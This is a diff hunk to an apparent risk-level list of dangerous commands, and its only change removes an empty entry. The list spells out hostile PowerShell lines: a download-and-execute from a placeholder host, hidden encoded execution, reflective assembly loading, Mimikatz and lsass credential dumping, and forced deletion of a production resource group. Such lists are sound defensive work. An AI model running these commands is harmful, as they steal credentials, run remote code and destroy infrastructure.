@@ -130,7 +130,6 @@ LEVELS = {
         "& ([scriptblock]::Create((irm https://x.example/i)))",
         "powershell -nop -w hidden -enc SQBFAFgA",
         "$x = [Convert]::FromBase64String($b); [Reflection.Assembly]::Load($x)",
-        ""
         "Invoke-Mimikatz -DumpCreds",
         "procdump -ma lsass.exe out.dmp",
         "Remove-AzResourceGroup -Name prod -Force",
